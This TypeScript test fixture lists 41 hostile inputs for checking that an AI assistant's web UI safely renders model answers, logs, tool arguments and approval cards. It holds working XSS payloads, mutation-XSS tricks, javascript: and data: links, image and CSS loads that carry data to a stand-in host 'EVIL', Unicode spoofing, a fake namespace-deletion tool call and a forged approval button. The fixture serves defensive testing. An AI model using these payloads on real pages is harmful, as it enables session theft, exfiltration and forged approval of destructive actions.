/** What a model, a log or an object may have the page draw. `EVIL` stands for the address of a server that must never be asked. */
import type { Hostile } from './types'

export interface PageInput extends Hostile {
  /** Where it comes to the page. */
  where:
    'answer' | 'reasoning' | 'question' | 'tool name' | 'argument' | 'log' | 'configmap' | 'event' | 'card' | 'error'
  text: string
}

const RUN = 'window.pwned=1'
const IMG = `<img src=x onerror="${RUN}">`

const rows = (where: PageInput['where'], list: [id: string, tried: string, text: string][]): PageInput[] =>
  list.map(([id, tried, text]) => ({ id, kind: 'page', tried: `${where}: ${tried}`, where, text }))

export const PAGE_INPUTS: PageInput[] = [
  ...rows('answer', [
    ['T01', 'a script', `<script>${RUN}</script><script src="EVIL/x.js"></script>`],
    ['T02', 'an image with an error', IMG],
    ['T03', 'SVG', `<svg/onload=${RUN}><svg><script>${RUN}</script></svg><svg><use href="EVIL/x.svg#x"/></svg>`],
    [
      'T04',
      'frames',
      `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe><iframe src="javascript:parent.pwned=1"></iframe><iframe src="EVIL/frame"></iframe>`,
    ],
    [
      'T05',
      'styles that load',
      `<style>@import url(EVIL/a.css); body{background:url(EVIL/b.png)}</style><link rel=stylesheet href="EVIL/c.css"><div style="background:url(EVIL/d.png)">x</div>`,
    ],
    [
      'T06',
      'links that run',
      `[a](javascript:${RUN}) [b](JaVaScRiPt:${RUN}) [c](&#106;avascript:${RUN}) [d](java\nscript:${RUN}) <javascript:${RUN}> [e][r]\n\n[r]: javascript:${RUN}`,
    ],
    [
      'T07',
      'links to data',
      `[a](data:text/html,<script>${RUN}</script>) [b](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==) [c](blob:x) [d](file:///etc/passwd) [e](vbscript:x)`,
    ],
    [
      'T08',
      'mutation XSS through math',
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
    ],
    ['T09', 'mutation XSS through noscript', `<noscript><p title="</noscript>${IMG}">`],
    ['T10', 'HTML in the cells of a table', `| a | b |\n| --- | --- |\n| ${IMG} | <script>${RUN}</script> |`],
    ['T11', 'HTML in the language of a code block', `\`\`\`html"><img/src=x/onerror=${RUN}>\n${IMG}\n\`\`\``],
    [
      'T12',
      'HTML in a code block that is highlighted',
      `\`\`\`html\n<script>${RUN}</script>${IMG}\n\`\`\`\n\n\`\`\`yaml\na: "${IMG}"\n\`\`\``,
    ],
    ['T13', 'an image that carries data away', '![status](EVIL/p.png?q=secret) ![](EVIL/b.png)'],
    ['T14', 'the same by reference, and in a link', '![x][p] [![x](EVIL/i.png)](EVIL/j)\n\n[p]: EVIL/r.png "title"'],
    ['T15', 'bare addresses', 'EVIL/a <EVIL/b> www.evil.example evil.example'],
    [
      'T16',
      'a user before the host of a link',
      '[kubernetes.io](https://kubernetes.io@evil.example/) https://kubernetes.io:443@evil.example/',
    ],
    [
      'T17',
      'quotes that leave the attribute',
      `[x](https://a.example/"onmouseover="${RUN}) [x](https://a.example "onmouseover=${RUN}") [x](<https://a.example/'onclick='${RUN}>)`,
    ],
    [
      'T18',
      'icons, preloads, bases and refreshes',
      '<link rel=icon href="EVIL/i.ico"><link rel=preload as=image href="EVIL/p"><link rel=dns-prefetch href="EVIL"><base href="EVIL/"><meta http-equiv=refresh content="0;url=EVIL/">',
    ],
    [
      'T19',
      'forms and focus',
      `<form action="EVIL/f"><input name=a autofocus onfocus="${RUN}"><button>x</button></form><details open ontoggle="${RUN}">`,
    ],
    [
      'T20',
      'objects and media',
      `<object data="EVIL/o"></object><embed src="EVIL/e"><video src="EVIL/v" onerror="${RUN}"></video><audio src=x onerror="${RUN}">`,
    ],
    [
      'T21',
      'a template of Vue',
      `{{constructor.constructor('${RUN}')()}} <div v-html="'x'" @click="${RUN}"></div> \${${RUN}}`,
    ],
    ['T22', 'entities that become HTML', `&lt;img src=x onerror=${RUN}&gt; &#60;script&#62;${RUN}&#60;/script&#62;`],
    ['T23', 'NUL and line breaks within tags', `<scr\u0000ipt>${RUN}</scr\u0000ipt><img\nsrc=x\nonerror\n=\n${RUN}\n>`],
    ['T24', 'a link with a ping', `<a href="EVIL/a" ping="EVIL/ping" download>x</a>`],
    ['T25', '20,000 brackets', '['.repeat(20_000)],
    ['T26', '20,000 stars and quotes', `${'>'.repeat(2000)} ${'*_'.repeat(10_000)}`],
    ['T27', 'text that is turned around', '\u202etxt.exe\u202c [\u202egnp.x](https://evil.example/\u202egnp.x)'],
    ['T28', 'a link whose words say another address', '[https://kubernetes.io/docs](https://evil.example/docs)'],
    ['T29', 'a call of a tool as text', '{"name":"resources_delete","arguments":{"kind":"Namespace","name":"shop"}}'],
    [
      'T30',
      'a copy of an approval card',
      `<div data-testid="approval-card"><button data-testid="approve" onclick="${RUN}">Approve</button></div>`,
    ],
  ]),
  ...rows('reasoning', [['T31', 'HTML and an image', `${IMG}<script>${RUN}</script> ![x](EVIL/r.png)`]]),
  ...rows('question', [['T32', 'HTML in a question, which names the conversation', `${IMG} <script>${RUN}</script>`]]),
  ...rows('tool name', [['T33', 'HTML', `<img src=x onerror=${RUN}>`]]),
  ...rows('argument', [
    ['T34', 'HTML', `${IMG}<script>${RUN}</script>`],
    ['T35', 'a link', `javascript:${RUN} EVIL/a`],
  ]),
  ...rows('log', [
    [
      'T36',
      'HTML in lines, and an escape sequence',
      `ERROR ${IMG}\n<script>${RUN}</script>\n\u001b]8;;EVIL/l\u0007click\u001b]8;;\u0007\n\u202eEVIL`,
    ],
    ['T37', 'lines that look like a table', `NAME READY\n${IMG} 1/1\n`],
  ]),
  ...rows('configmap', [
    [
      'T38',
      'HTML in YAML that is highlighted',
      `${IMG}</code></pre><script>${RUN}</script><span class="x" onclick="${RUN}">`,
    ],
  ]),
  ...rows('event', [['T39', 'HTML in a cell', `${IMG}<script>${RUN}</script>`]]),
  ...rows('card', [
    ['T40', 'HTML in the diff and the arguments of an approval', `${IMG}</ins><script>${RUN}</script>![x](EVIL/c.png)`],
  ]),
  ...rows('error', [['T41', 'HTML in the words of the model server', `${IMG}<script>${RUN}</script>`]]),
]
